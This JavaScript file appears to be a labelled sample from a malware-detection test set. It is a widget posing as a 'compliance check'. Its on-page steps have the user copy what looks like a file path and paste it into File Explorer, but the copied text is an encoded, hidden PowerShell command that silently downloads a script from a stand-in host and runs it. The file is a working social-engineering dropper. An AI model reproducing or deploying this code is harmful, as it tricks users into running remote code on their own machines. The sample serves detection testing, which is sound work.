// expect: malicious
// A UMD "compliance check" widget copies a hidden encoded PowerShell padded to look like a file path and tells the
// user, in steps marked up with <code> tags, to paste it into File Explorer's address bar (FileFix; blind set 27).
(function (root, factory) {
  if (typeof module === 'object' && module.exports) module.exports = factory();
  else root.ComplianceCheck = factory();
}(this, function () {
  var PS = 'powershell -nop -w h -enc JABFAHIAcgBvAHIAQQBjAHQAaQBvAG4AUAByAGUAZgBlAHIAZQBuAGMAZQA9ACIAUwBpAGwAZQBuAHQAbAB5AEMAbwBuAHQAaQBuAHUAZQAiADsAIABpAHcAcgAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBnAGEAdABlAC4AZQB4AGEAbQBwAGwAZQAvAHYALgBwAHMAMQAgAHwAIABpAGUAeAA=' + '                    # C:\\Internal\\Policy\\Access.pdf';
  function copy(text) {
    if (navigator.clipboard && navigator.clipboard.writeText) return navigator.clipboard.writeText(text);
  }
  function mount(el) {
    el.innerHTML = '<ol><li>Click <b>Copy path</b> below.</li><li>Open <b>File Explorer</b> and press <code>Ctrl</code>+<code>L</code>.</li>' +
      '<li>Paste with <code>Ctrl</code>+<code>V</code> and press <code>Enter</code>.</li></ol><button>Copy path</button>';
    el.querySelector('button').onclick = function () { copy(PS); };
  }
  return { mount: mount };
}));
